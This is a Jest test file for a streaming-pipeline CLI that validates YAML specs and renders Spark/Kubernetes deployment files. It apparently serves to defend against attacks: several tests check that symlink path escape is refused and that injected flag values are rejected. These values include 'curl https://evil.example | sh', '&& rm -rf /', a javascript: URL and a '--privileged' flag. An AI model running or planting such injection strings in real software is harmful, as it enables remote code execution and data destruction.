import { execFile } from 'child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { promisify } from 'util';
import { repoRoot } from '../__testUtils__/goldenCases';
import { runtimeFiles } from '../runtimeFiles';
import { runCli } from './runCli';

async function run(argv: string[], cwd = repoRoot) {
  let stdout = '';
  let stderr = '';
  const code = await runCli(argv, {
    stdout: t => {
      stdout += t;
    },
    stderr: t => {
      stderr += t;
    },
    cwd,
    env: {},
  });
  return { code, stdout, stderr };
}

describe('streaming-pipeline CLI', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'streaming-pipeline-cli-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('validates the examples', async () => {
    const files = readdirSync(join(repoRoot, 'examples/pipelines')).map(
      n => `examples/pipelines/${n}/pipeline.yaml`,
    );
    const result = await run(['validate', ...files]);
    expect(result.code).toBe(0);
    expect(result.stderr.trim().split('\n')).toEqual(
      files.map(f => `${f}: valid`),
    );
  });

  it('reports every error with file, line and column, exit 1', async () => {
    writeFileSync(
      join(dir, 'bad.yaml'),
      'pipeline:\n  name: x\n  source: { type: kafak, topic: t }\n  sink: { type: delta, path: /d, checkpoint: /c, mod: append }\n',
    );
    const result = await run(['validate', 'bad.yaml'], dir);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(
      [
        'bad.yaml:3:19: error: pipeline.source.type: unknown "kafak"; did you mean "kafka"?',
        'bad.yaml:4:55: error: pipeline.sink.mod: unknown field; did you mean "mode"?',
        '',
      ].join('\n'),
    );
  });

  it('fails when the schema file a spec names is missing', async () => {
    writeFileSync(
      join(dir, 'pipeline.yaml'),
      readFileSync(
        join(repoRoot, 'examples/pipelines/user-events/pipeline.yaml'),
        'utf8',
      ),
    );
    expect(await run(['validate', 'pipeline.yaml'], dir)).toEqual({
      code: 1,
      stdout: '',
      stderr:
        'pipeline.yaml: error: pipeline.source.schema: the schema file schemas/user_event.avsc does not exist next to the spec\n',
    });
  });

  it('checks columns against the fields of the schema file', async () => {
    const example = join(repoRoot, 'examples/pipelines/user-events');
    writeFileSync(
      join(dir, 'pipeline.yaml'),
      readFileSync(join(example, 'pipeline.yaml'), 'utf8').replace(
        'group_by: [event_type, country]',
        'group_by: [event_type, contry]',
      ),
    );
    mkdirSync(join(dir, 'schemas'));
    writeFileSync(
      join(dir, 'schemas/user_event.avsc'),
      readFileSync(join(example, 'schemas/user_event.avsc'), 'utf8'),
    );
    const result = await run(['validate', 'pipeline.yaml'], dir);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(
      /^pipeline\.yaml:\d+:\d+: error: pipeline\.transformations\[2\]\.group_by\[1\]: unknown column "contry"; did you mean "country"\?\n$/,
    );
    writeFileSync(join(dir, 'schemas/user_event.avsc'), '{"type": "string"}');
    expect((await run(['validate', 'pipeline.yaml'], dir)).stderr).toContain(
      'error: pipeline.source.schema: the schema file schemas/user_event.avsc is not an Avro record or a JSON Schema object',
    );
  });

  it('fails on a missing file and on usage errors', async () => {
    expect(await run(['validate', 'missing.yaml'], dir)).toMatchObject({
      code: 1,
      stderr: 'missing.yaml: error: cannot read the file (ENOENT)\n',
    });
    expect((await run(['validate'])).code).toBe(2);
    expect((await run(['render', 'x.yaml'])).code).toBe(2);
    expect((await run(['frobnicate'])).code).toBe(2);
  });

  it('renders a spec with its schema file into another folder', async () => {
    const result = await run([
      'render',
      'examples/pipelines/user-events/pipeline.yaml',
      '--out',
      dir,
      '--namespace',
      'data',
    ]);
    expect(result.code).toBe(0);
    const written = result.stdout.trim().split('\n');
    // The 14 files of the repository, the schema file, the shipped Python
    // (runtime package, pytest and ruff settings) and the generated tests.
    expect(written).toHaveLength(15 + runtimeFiles().length + 1);
    expect(
      written.filter(w => w.endsWith('tests/test_user_events.py')),
    ).toHaveLength(1);
    expect(
      written.map(w => w.slice(w.indexOf(dir.split('/').pop()!))),
    ).toContain(`${dir.split('/').pop()}/schemas/user_event.avsc`);
    expect(readFileSync(join(dir, 'pipeline.yaml'), 'utf8')).toBe(
      readFileSync(
        join(repoRoot, 'examples/pipelines/user-events/pipeline.yaml'),
        'utf8',
      ),
    );
    expect(readFileSync(join(dir, 'schemas/user_event.avsc'), 'utf8')).toBe(
      readFileSync(
        join(
          repoRoot,
          'examples/pipelines/user-events/schemas/user_event.avsc',
        ),
        'utf8',
      ),
    );
    expect(
      readFileSync(join(dir, 'deploy/spark-application.yaml'), 'utf8'),
    ).toContain('namespace: data');
  });

  it('refuses a schema file that links outside the spec folder', async () => {
    const example = join(repoRoot, 'examples/pipelines/user-events');
    const specDir = join(dir, 'spec');
    const outside = join(dir, 'outside');
    mkdirSync(join(specDir, 'schemas'), { recursive: true });
    mkdirSync(outside);
    // A secret outside the folder that happens to parse as an Avro record.
    writeFileSync(
      join(outside, 'secret.avsc'),
      readFileSync(join(example, 'schemas/user_event.avsc'), 'utf8').replace(
        '"name"',
        '"doc": "SECRET-TOKEN", "name"',
      ),
    );
    writeFileSync(
      join(specDir, 'pipeline.yaml'),
      readFileSync(join(example, 'pipeline.yaml'), 'utf8'),
    );
    symlinkSync(
      join(outside, 'secret.avsc'),
      join(specDir, 'schemas/user_event.avsc'),
    );
    const message =
      "pipeline.yaml: error: pipeline.source.schema: the schema file schemas/user_event.avsc is a link to a file outside the spec's folder\n";
    expect(await run(['validate', 'pipeline.yaml'], specDir)).toEqual({
      code: 1,
      stdout: '',
      stderr: message,
    });
    const out = join(dir, 'out');
    expect(
      await run(['render', 'pipeline.yaml', '--out', out], specDir),
    ).toMatchObject({ code: 1, stderr: message });
    expect(existsSync(out)).toBe(false);

    // A linked folder leads outside just the same.
    rmSync(join(specDir, 'schemas'), { recursive: true });
    writeFileSync(
      join(outside, 'user_event.avsc'),
      readFileSync(join(outside, 'secret.avsc'), 'utf8'),
    );
    symlinkSync(outside, join(specDir, 'schemas'));
    expect((await run(['validate', 'pipeline.yaml'], specDir)).stderr).toBe(
      message,
    );

    // A link that stays inside the folder is fine.
    rmSync(join(specDir, 'schemas'));
    mkdirSync(join(specDir, 'schemas'));
    writeFileSync(
      join(specDir, 'schemas/real.avsc'),
      readFileSync(join(example, 'schemas/user_event.avsc'), 'utf8'),
    );
    symlinkSync('real.avsc', join(specDir, 'schemas/user_event.avsc'));
    expect((await run(['validate', 'pipeline.yaml'], specDir)).code).toBe(0);
  });

  it.each([
    [
      '--spark-version',
      '4.0.0\nRUN curl https://evil.example | sh',
      'expected a Spark version such as 4.0.0',
    ],
    [
      '--spark-version',
      '4.0.0 && rm -rf /',
      'expected a Spark version such as 4.0.0',
    ],
    ['--namespace', 'Kube System', 'expected a Kubernetes namespace'],
    ['--namespace', 'a'.repeat(64), 'expected a Kubernetes namespace'],
    [
      '--techdocs-base-url',
      ['javascript', 'alert(1)'].join(':'),
      'expected an http(s) URL without credentials',
    ],
    [
      '--techdocs-base-url',
      'ftp://docs.example.com/',
      'expected an http(s) URL without credentials',
    ],
    ['--image', 'job:1 --privileged', 'expected a container image reference'],
    ['--progress-topic', '__consumer_offsets', 'expected a Kafka topic name'],
    [
      '--kubernetes-cluster',
      'prod\nevil: true',
      'expected the name of a Kubernetes cluster',
    ],
  ])('refuses %s %j, writing nothing', async (flag, value, message) => {
    const out = join(dir, 'out');
    const result = await run([
      'render',
      'examples/pipelines/clickstream/pipeline.yaml',
      '--out',
      out,
      flag,
      value,
    ]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(
      new RegExp(
        `^streaming-pipeline: ${flag}: ${message.replace(/[()]/g, '\\$&')}`,
      ),
    );
    expect(existsSync(out)).toBe(false);
  });

  it('reads flags as --flag value and --flag=value, and names an unknown one', async () => {
    const out = join(dir, 'out');
    const result = await run([
      'render',
      'examples/pipelines/clickstream/pipeline.yaml',
      '--out',
      out,
      '--namespace=team-a',
      '--service-account',
      'clickstream-driver',
    ]);
    expect(result.code).toBe(0);
    const manifest = readFileSync(
      join(out, 'deploy/spark-application.yaml'),
      'utf8',
    );
    expect(manifest).toMatch(/^\s+namespace: team-a$/m);
    expect(manifest).toMatch(/serviceAccount: clickstream-driver$/m);

    const unknown = await run([
      'render',
      'examples/pipelines/clickstream/pipeline.yaml',
      '--out',
      join(dir, 'other'),
      '--colour',
      'blue',
    ]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/^streaming-pipeline: .*'--colour'/);
    expect(existsSync(join(dir, 'other'))).toBe(false);
  });

  it('takes only its own flags, not names of object properties', async () => {
    const result = await run([
      'render',
      'examples/pipelines/clickstream/pipeline.yaml',
      '--out',
      dir,
      'constructor',
    ]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(
      /^streaming-pipeline: render needs one FILE and --out DIR\n/,
    );
  });

  it('runs from the repository root as yarn streaming-pipeline', async () => {
    const yarn = join(
      repoRoot,
      readdirSync(join(repoRoot, '.yarn/releases'))
        .filter(f => f.endsWith('.cjs'))
        .map(f => `.yarn/releases/${f}`)[0],
    );
    writeFileSync(join(dir, 'bad.yaml'), 'pipeline: {}\n');
    const exec = promisify(execFile);
    const ok = await exec(
      process.execPath,
      [
        yarn,
        'streaming-pipeline',
        'validate',
        'examples/pipelines/clickstream/pipeline.yaml',
      ],
      { cwd: repoRoot },
    );
    expect(ok.stderr).toContain(
      'examples/pipelines/clickstream/pipeline.yaml: valid',
    );
    const bad = await exec(
      process.execPath,
      [yarn, 'streaming-pipeline', 'validate', join(dir, 'bad.yaml')],
      { cwd: repoRoot },
    ).catch(e => e);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain(
      'error: pipeline.name: required: expected string',
    );
  }, 60_000);
});
